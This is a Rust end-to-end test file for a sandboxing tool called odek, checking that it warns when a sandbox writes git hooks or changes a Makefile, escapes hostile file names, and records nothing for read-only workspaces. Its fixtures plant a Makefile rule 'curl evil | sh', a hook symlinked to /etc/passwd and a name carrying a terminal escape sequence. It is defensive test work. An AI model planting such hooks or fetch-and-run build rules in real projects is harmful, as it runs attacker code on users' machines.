//! The files host tools run, named when a sandbox ends (docs/SECURITY.md,
//! "Files host tools run"), against the real engine: `odek run` says on
//! stderr that the sandbox wrote `.git/hooks/pre-commit` (created,
//! executable), and nothing when it edited only `src/main.py`; `odek
//! sandbox down` — another process than the `sandbox up` that launched it
//! — names a Makefile the sandbox changed; a hostile hook name is escaped;
//! a run ended by SIGTERM still names the hook; a read-only workspace
//! records nothing.

use std::process::{Command, Stdio};
use std::time::Duration;

use odek_e2e::{stderr, wait_timeout, wait_until, Project, BASE_IMAGE};

/// A checkout: `.git/hooks`, `.git/config`, a Makefile and `src/main.py`.
fn checkout(p: &Project) {
    let root = p.path();
    std::fs::create_dir_all(root.join(".git/hooks")).expect("mkdir");
    std::fs::create_dir_all(root.join("src")).expect("mkdir");
    std::fs::write(root.join(".git/config"), "[core]\n").expect("write");
    std::fs::write(root.join("Makefile"), "all:\n").expect("write");
    std::fs::write(root.join("src/main.py"), "print(1)\n").expect("write");
}

const SAID: &str = "the sandbox changed files that host tools run";

/// The records of the files host tools run under the project's
/// `$ODEK_HOME` (`sandboxes/<name>/host-files.json`; the directory also
/// holds each sandbox's command log, which stays).
fn host_file_records(p: &Project) -> Vec<std::path::PathBuf> {
    let Ok(dirs) = p.home.path().join("sandboxes").read_dir() else {
        return Vec::new();
    };
    dirs.filter_map(|d| d.ok())
        .map(|d| d.path().join("host-files.json"))
        .filter(|f| f.exists())
        .collect()
}

#[test]
fn odek_run_names_a_hook_the_sandbox_wrote_and_nothing_for_src() {
    let p = Project::new();
    checkout(&p);
    let out = p.odek_ok(&[
        "run",
        "--sandbox-image",
        BASE_IMAGE,
        "--",
        "sh",
        "-c",
        "printf x > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    ]);
    let err = stderr(&out);
    assert!(
        err.lines().any(|l| l
            == "odek: the sandbox changed files that host tools run: .git/hooks/pre-commit (created, executable) — review them before running git or make"),
        "{err}"
    );
    assert!(p.leftovers().is_empty(), "{:?}", p.leftovers());
    assert!(
        host_file_records(&p).is_empty(),
        "the launch's record is removed: {:?}",
        host_file_records(&p)
    );

    // Control: an edit of src/main.py (and of nothing host tools run) is
    // named by nothing.
    let out = p.odek_ok(&[
        "run",
        "--sandbox-image",
        BASE_IMAGE,
        "--",
        "sh",
        "-c",
        "echo 'import os' > src/main.py",
    ]);
    let err = stderr(&out);
    assert!(!err.contains("host tools run"), "{err}");
    assert_eq!(
        std::fs::read_to_string(p.path().join("src/main.py")).expect("read"),
        "import os\n",
        "the command ran"
    );
}

#[test]
fn sandbox_down_names_what_a_detached_sandbox_changed() {
    let p = Project::new();
    checkout(&p);
    let up = p.odek_ok(&["sandbox", "up", "--sandbox-image", BASE_IMAGE]);
    let name = odek_e2e::stdout(&up).trim().to_string();
    p.odek_ok(&[
        "sandbox",
        "exec",
        &name,
        "--",
        "sh",
        "-c",
        "printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; ln -s /etc/passwd .git/hooks/post-checkout; touch \"$(printf '.git/hooks/x\\033[2J')\"",
    ]);
    let down = p.odek_ok(&["sandbox", "down", &name]);
    let err = stderr(&down);
    let line = err
        .lines()
        .find(|l| l.contains(SAID))
        .unwrap_or_else(|| panic!("nothing said:\n{err}"));
    assert!(
        line.starts_with(&format!("odek: {name}: {SAID}: ")),
        "{line}"
    );
    assert!(line.contains("Makefile (content changed)"), "{line}");
    assert!(
        line.contains(".git/hooks/post-checkout (created, a symbolic link to /etc/passwd)"),
        "{line}"
    );
    // The escape sequence in the name reaches the terminal escaped.
    assert!(line.contains(r".git/hooks/x\x1b[2J (created)"), "{line}");
    assert!(!err.contains('\u{1b}'), "{err:?}");
    assert!(p.leftovers().is_empty(), "{:?}", p.leftovers());
}

#[test]
fn a_read_only_workspace_records_nothing() {
    let p = Project::new();
    checkout(&p);
    let out = p.run_odek(&[
        "run",
        "--sandbox-image",
        BASE_IMAGE,
        "--sandbox-readonly",
        "--",
        "sh",
        "-c",
        "ls \"$HOME\" >/dev/null; printf x > .git/hooks/pre-commit",
    ]);
    // The write fails: the workspace is read-only.
    assert_ne!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!stderr(&out).contains("host tools run"), "{}", stderr(&out));
    assert!(
        host_file_records(&p).is_empty(),
        "nothing was recorded: {:?}",
        host_file_records(&p)
    );
}

#[test]
fn a_run_ended_by_sigterm_still_names_the_hook() {
    let p = Project::new();
    checkout(&p);
    let child = p
        .odek(&[
            "run",
            "--sandbox-image",
            BASE_IMAGE,
            "--",
            "sh",
            "-c",
            "printf x > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; sleep 60",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn odek run");
    let hook = p.path().join(".git/hooks/pre-commit");
    let written = wait_until(Duration::from_secs(60), || {
        std::fs::metadata(&hook)
            .is_ok_and(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o111 != 0)
    });
    let st = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .expect("kill");
    assert!(st.success());
    let out = wait_timeout(child, Duration::from_secs(60), "odek run after SIGTERM");
    let err = stderr(&out);
    assert!(written, "the hook was never written:\n{err}");
    assert_eq!(out.status.code(), Some(143), "{err}");
    assert!(
        err.lines().any(|l| l
            == "odek: the sandbox changed files that host tools run: .git/hooks/pre-commit (created, executable) — review them before running git or make"),
        "{err}"
    );
    assert!(p.leftovers().is_empty(), "{:?}", p.leftovers());
}
